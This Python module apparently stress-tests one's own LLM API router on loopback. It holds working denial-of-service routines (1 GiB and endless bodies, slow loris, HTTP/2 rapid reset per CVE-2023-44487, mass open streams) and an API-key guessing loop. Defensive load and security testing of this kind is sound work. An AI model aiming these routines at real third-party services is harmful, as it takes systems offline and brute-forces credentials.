"""What somebody may do to a port: each attack runs for some seconds and tells what it met.

Plain sockets and frames, because a well-made client would refuse to behave like this.
Everything here is aimed at a router of one's own, on loopback.
"""

import contextlib
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import hpack
from hyperframe.frame import Frame, HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GIB = 2**30
CHUNK = b"x" * 2**16


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """A router's two ports, `host:port` each."""

    grpc: str
    http: str


@dataclass(slots=True)
class Met:
    """What an attack met.

    Attributes:
        tries: Connections, bodies or streams it began.
        refused: How many of them the router ended or refused.
    """

    tries: int = 0
    refused: int = 0


def connect(address: str) -> socket.socket:
    """Open a connection that never waits longer than a second."""
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=1)


@contextlib.contextmanager
def _counted(met: Met) -> Iterator[None]:
    """Count a try, and a refusal where the other side ends the connection."""
    met.tries += 1
    try:
        yield
    except OSError:
        met.refused += 1


def huge_bodies(target: Target, until: float) -> Met:
    """Announce a body of 1 GiB, and send as much of it as is taken."""
    met = Met()
    head = (
        "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        f"Content-Length: {GIB}\r\n\r\n"
    )
    while time.monotonic() < until:
        with _counted(met), contextlib.closing(connect(target.http)) as link:
            link.sendall(head.encode())
            for _ in range(GIB // len(CHUNK)):
                link.sendall(CHUNK)
            if link.recv(64).split(b" ")[1:2] != [b"200"]:
                met.refused += 1
    return met


def endless_bodies(target: Target, until: float) -> Met:
    """Send chunked bodies that never end, and never say how long they are."""
    met = Met()
    head = (
        "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        "Transfer-Encoding: chunked\r\n\r\n"
    )
    piece = b"%x\r\n" % len(CHUNK) + CHUNK + b"\r\n"
    while time.monotonic() < until:
        with _counted(met), contextlib.closing(connect(target.http)) as link:
            link.sendall(head.encode())
            while time.monotonic() < until:
                link.sendall(piece)
    return met


def slow_loris(target: Target, until: float, connections: int = 500) -> Met:
    """Hold many connections open, and send their headers a byte at a time."""
    met = Met()
    links: list[socket.socket] = []
    with contextlib.ExitStack() as stack:
        for _ in range(connections):
            with _counted(met):
                links.append(stack.enter_context(contextlib.closing(connect(target.http))))
        text = b"GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Slow: "
        sent = 0
        while links and time.monotonic() < until:
            piece = text[sent : sent + 1] or b"a"
            sent += 1
            for link in list(links):
                try:
                    link.sendall(piece)
                except OSError:
                    met.refused += 1
                    links.remove(link)
            time.sleep(0.2)
    return met


def _frame(frame: Frame) -> bytes:
    data: bytes = frame.serialize()
    return data


def _request_block() -> bytes:
    """Write the headers of a call, without the compression table that would tie streams."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/tame_router.v1.RouterService/Chat"),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    block: bytes = hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(name, value) for name, value in headers], huffman=False
    )
    return block


def _headers(stream: int, block: bytes) -> bytes:
    return _frame(HeadersFrame(stream, block, flags=["END_HEADERS"]))


def rapid_reset(target: Target, until: float) -> Met:
    """Begin streams and reset each at once (CVE-2023-44487), as fast as the peer reads."""
    met, block = Met(), _request_block()
    while time.monotonic() < until:
        with contextlib.suppress(OSError), contextlib.closing(connect(target.grpc)) as link:
            link.sendall(PREFACE + _frame(SettingsFrame(0)))
            for stream in range(1, 200_001, 2):
                met.tries += 1
                link.sendall(_headers(stream, block) + _frame(RstStreamFrame(stream, error_code=8)))
                if time.monotonic() > until:
                    return met
        met.refused += 1
    return met


def many_streams(target: Target, until: float, streams: int = 10_000) -> Met:
    """Begin thousands of streams on one connection, end none, and hold them."""
    met, block = Met(), _request_block()
    while time.monotonic() < until:
        with contextlib.suppress(OSError), contextlib.closing(connect(target.grpc)) as link:
            link.sendall(PREFACE + _frame(SettingsFrame(0)))
            for number in range(streams):
                link.sendall(_headers(2 * number + 1, block))
                met.tries += 1
            met.refused += _resets(link, until)
    return met


def _resets(link: socket.socket, until: float) -> int:
    """Read frames until the peer is silent or gone, and count the streams it refused."""
    data, count = b"", 0
    with contextlib.suppress(OSError):
        while time.monotonic() < until and (read := link.recv(2**16)):
            data += read
            while len(data) >= 9:
                frame, size = Frame.parse_frame_header(memoryview(data[:9]))
                if len(data) < 9 + size:
                    break
                count += isinstance(frame, RstStreamFrame)
                data = data[9 + size :]
    return count


def guessed_keys(target: Target, until: float) -> Met:
    """Try one key after the other."""
    met = Met()
    while time.monotonic() < until:
        with _counted(met), contextlib.closing(connect(target.http)) as link:
            for number in range(1_000):
                key = f"tame_{number:012d}_{'0' * 43}"
                link.sendall(
                    "GET /v1/models HTTP/1.1\r\nHost: x\r\n"
                    f"Authorization: Bearer {key}\r\n\r\n".encode()
                )
                met.tries += 1
                met.refused += link.recv(2**16).startswith(b"HTTP/1.1 401")
                if time.monotonic() > until:
                    break
    return met


ATTACKS: dict[str, Callable[[Target, float], Met]] = {
    "1 GiB bodies": huge_bodies,
    "endless bodies": endless_bodies,
    "slow loris, 500 connections": slow_loris,
    "HTTP/2 rapid reset": rapid_reset,
    "10,000 streams on one connection": many_streams,
    "guessed keys": guessed_keys,
}
